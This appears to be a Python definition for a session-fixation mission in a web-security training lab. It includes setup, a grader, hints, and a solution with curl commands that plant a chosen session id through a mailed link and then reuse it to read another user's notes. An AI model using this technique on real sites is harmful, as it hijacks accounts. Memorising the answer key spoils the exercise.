"""A server that lets a link choose the session id: session fixation."""

from flask_babel import gettext
from flask_babel import lazy_gettext as _

from lab.pages.missions.ground import Ground
from lab.pages.missions.mission import CURL, Begun, Mission, Part, Verdict, answer
from lab.trials import Kept
from lab.unsafe_server import ADOPTED_SESSION, notes_server
from lab.unsafe_server.adopted_session import BOBS_PASSWORD
from service.web.cookies import cookie_name
from service.web.fields import Fields


def begin(ground: Ground) -> Begun:
    """Make a server of the visitor's own."""
    given = {
        "SITE": "$LAB/unsafe/$TRIAL",
        "USERNAME": "bob",
        "PASSWORD": BOBS_PASSWORD,
        "COOKIE": cookie_name("unsafe", ground.config.secure_cookies),
    }
    return Begun(notes_server(), given)


def judge(_ground: Ground, kept: Kept, fields: Fields) -> Verdict:
    """Only a session of alice has shown her note."""
    note = answer(fields, "note")
    if note == kept["notes"]["alice"]:
        return Verdict(
            True,
            gettext(
                "Alice logged in under a session id that you knew. This lab never adopts an id, and each log-in gets a"
                " new one."
            ),
        )
    if note == kept["notes"]["bob"]:
        return Verdict(False, gettext("That is bob’s own note. Whose session is yours?"))
    return Verdict(False, gettext("This is not alice’s note. The page /notes shows it to her session."))


BOBS_TOOLS = Mission(
    slug=ADOPTED_SESSION,
    approach=None,
    minutes=10,
    title=_("Read alice’s notes with bob’s tools"),
    goal=_("Read alice’s note. You have bob’s password, and alice opens links that you send."),
    who=_(
        "You are bob. /login, /notes and /mail are pages of this server. POST /mail with a link sends it to alice: she"
        " opens it and logs in."
    ),
    tool=CURL,
    hints=(
        _("GET /login begins a session. Compare its session id before and after you log in as bob."),
        _("/login?sid=… begins a session under the id in the link. The log-in does not change it."),
        _("Send alice such a link. Then ask for /notes with the same id in your own cookie."),
    ),
    solution=(
        Part(
            _("Plant a session id by a link, wait for alice’s log-in, and use the same id."),
            """\
curl -s "$SITE/mail" -H 'Content-Type: application/json' \\
  -d "{\\"link\\": \\"$SITE/login?sid=chosen-by-bob\\"}"
curl -s -b "$COOKIE=chosen-by-bob" "$SITE/notes" |
  python3 -c 'import json, sys; print("note:", json.load(sys.stdin)["notes"][0])'""",
        ),
    ),
    walk="/walkthrough/session-lifetimes/fixed",
    begin=begin,
    judge=judge,
    answers={"note": _("Alice’s note")},
    unsafe=True,
)
